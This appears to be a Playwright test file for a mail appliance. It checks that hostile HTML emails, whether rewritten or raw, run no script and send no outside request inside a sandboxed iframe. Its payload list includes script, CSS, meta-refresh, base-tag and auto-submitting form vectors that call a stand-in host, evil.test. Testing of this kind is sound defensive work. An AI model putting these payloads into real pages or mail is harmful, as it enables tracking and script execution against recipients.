// Hostile messages in the sandboxed frame of Chromium: rewritten and as they came, no script runs and no request leaves.

import assert from 'node:assert/strict'
import { after, before, describe, test } from 'node:test'
import type { Browser } from 'playwright-core'
import { VIEW_HEADERS } from '../../src/api/mailbox/contents/view.ts'
import type { MessageSummaryJson } from '../../src/api/schemas/message-summary.ts'
import { viewDocument } from '../../src/content/view/document.ts'
import { data, receiveRaw } from '../api/expect.ts'
import { startAppliance, type TestAppliance } from '../support/appliance.ts'
import { chromiumMissing, launchChromium, PATIENCE_MS } from '../support/chromium.ts'
import { fixtureJson } from '../support/fixtures.ts'
import { signInMember } from '../support/person.ts'
import { HOSTILE_HTML } from '../vectors/html.ts'

const ORIGIN = 'http://localhost:9'
/** The sandbox of the element; the policy of the document repeats it. */
const SANDBOX = 'allow-same-origin allow-popups allow-popups-to-escape-sandbox'
const OPTIONS = { theme: 'light', withPictures: true, isQuoteOpen: false, isWhole: false } as const
/** What a script or a style of the message would try, beside the vectors of others. */
const ATTEMPTS = [
  '<script>parent.document.title = "run"; fetch("https://evil.test/fetch")</script>',
  '<img src="https://evil.test/img" srcset="https://evil.test/set 2x"><picture><source srcset="https://evil.test/source"><img></picture>',
  '<style>@import url(https://evil.test/import); @font-face{font-family:x;src:url(https://evil.test/font)} body{font-family:x;background:url(https://evil.test/bg)}</style>text',
  '<div style="--x:url(https://evil.test/var);background:var(--x)">x</div><div style="background:u\\72l(https://evil.test/escaped)">x</div>',
  '<link rel="stylesheet" href="https://evil.test/css"><link rel="prefetch" href="https://evil.test/prefetch"><link rel="dns-prefetch" href="//evil.test">',
  '<meta http-equiv="refresh" content="0;url=https://evil.test/refresh"><base href="https://evil.test/"><img src="base">',
  '<iframe src="https://evil.test/frame"></iframe><iframe srcdoc="<script>parent.parent.document.title=1</script>"></iframe>',
  '<video src="https://evil.test/video" poster="https://evil.test/poster" autoplay></video><audio src="https://evil.test/audio" autoplay></audio>',
  '<form action="https://evil.test/form" id=f><input autofocus onfocus="f.submit()"></form>',
  '<svg><image href="https://evil.test/svg"/><use href="https://evil.test/use#a"/></svg><object data="https://evil.test/object"></object>',
  '<table background="https://evil.test/table"><tr><td background="https://evil.test/td">x</td></tr></table>',
  '<input type=image src="https://evil.test/input"><body background="https://evil.test/body">',
]

describe('hostile messages in a frame', { skip: chromiumMissing() }, () => {
  let browser: Browser
  let appliance: TestAppliance
  before(async () => {
    browser = await launchChromium()
    appliance = await startAppliance({ env: { SPAM_JUNK_SCORE: '99', SPAM_REFUSE_SCORE: '99' } })
  })
  after(async () => {
    await browser.close()
    await appliance.close()
  })

  /** Shows documents in frames of one page. @returns what ran or was asked for beside them */
  async function show(documents: readonly string[]): Promise<string[]> {
    const page = await browser.newPage()
    page.setDefaultTimeout(PATIENCE_MS)
    const found: string[] = []
    page.on('dialog', (dialog) => {
      found.push(`dialog ${dialog.message()}`)
      void dialog.dismiss()
    })
    page.on('popup', () => found.push('popup'))
    const frames = documents.map((_, at) => `<iframe sandbox="${SANDBOX}" src="/frame/${at}"></iframe>`).join('')
    await page.route('**/*', async (route) => {
      const url = new URL(route.request().url())
      const at = /^\/frame\/(\d+)$/.exec(url.pathname)?.[1]
      if (url.origin === ORIGIN && url.pathname === '/host') {
        return route.fulfill({
          contentType: 'text/html',
          headers: { 'content-security-policy': "frame-src 'self'" },
          body: `<title>host</title>${frames}`,
        })
      }
      if (url.origin === ORIGIN && at !== undefined) {
        return route.fulfill({
          contentType: 'text/html; charset=utf-8',
          headers: VIEW_HEADERS,
          body: documents[Number(at)]!,
        })
      }
      if (url.origin !== ORIGIN) found.push(`request ${url.href}`)
      return route.fulfill({ status: 404, body: '' })
    })
    await page.goto(`${ORIGIN}/host`, { waitUntil: 'load' })
    // Timers and animations of the documents would have run by the time the page answers twice.
    await page.evaluate('new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)))')
    const title = await page.title()
    if (title !== 'host') found.push(`title ${title}`)
    await page.close()
    return found
  }

  const foreign = fixtureJson<{ payload: string }[]>('html/dompurify-expect.json').map(({ payload }) => payload)
  const payloads = [...ATTEMPTS, ...HOSTILE_HTML, ...foreign]

  test('rewritten: 0 scripts, 0 requests', async () => {
    const documents = payloads.map(
      (html) => viewDocument({ text: null, html, incomplete: false, files: new Map() }, OPTIONS).html,
    )
    assert.deepEqual(await show(documents), [])
  })

  test('as they came: the policy of the frame alone keeps them from running and loading', async () => {
    assert.deepEqual(await show(payloads), [])
  })

  test('the document of a received message, in a frame of a page of the appliance with the cookie of a person', async () => {
    const team = await appliance.team()
    await team.domain('shop.test')
    const ana = await team.mailbox('ana@shop.test')
    const person = await signInMember(appliance, team.id, 'user')
    await appliance.app.db.write((tx) =>
      appliance.app.people.grants.put(tx, {
        mailboxId: ana.id,
        memberId: person.memberId,
        access: 'reader',
        createdBy: 'operator',
      }),
    )
    const content = `From: eve@else.test\r\nTo: ana@shop.test\r\nContent-Type: text/html\r\n\r\n<p>Hello</p>${ATTEMPTS.join('')}`
    await receiveRaw(appliance, { from: 'eve@else.test', to: ana.email, content })
    const [message] = data<MessageSummaryJson[]>(await appliance.get('/mailbox/messages?limit=1', ana.key))
    const path = `/as/${ana.id}/api/v1/mailbox/messages/${message!.id}/view`
    const context = await browser.newContext()
    context.setDefaultTimeout(PATIENCE_MS)
    const [name, value] = person.cookie.split('=') as [string, string]
    await context.addCookies([{ name, value, url: appliance.origin }])
    const page = await context.newPage()
    const asked: string[] = []
    page.on('request', (request) => asked.push(new URL(request.url()).pathname))
    await page.route('**/host', (route) =>
      route.fulfill({ contentType: 'text/html', body: `<iframe sandbox="${SANDBOX}" src="${path}"></iframe>` }),
    )
    await page.goto(`${appliance.origin}/host`, { waitUntil: 'load' })
    await page.frameLocator('iframe').getByText('Hello').waitFor()
    assert.deepEqual(
      asked.filter((one) => one !== '/favicon.ico'),
      ['/host', path],
    )
    assert.equal((await page.goto(appliance.origin + path))?.status(), 403, 'not as a page of its own')
    await context.close()
  })
})
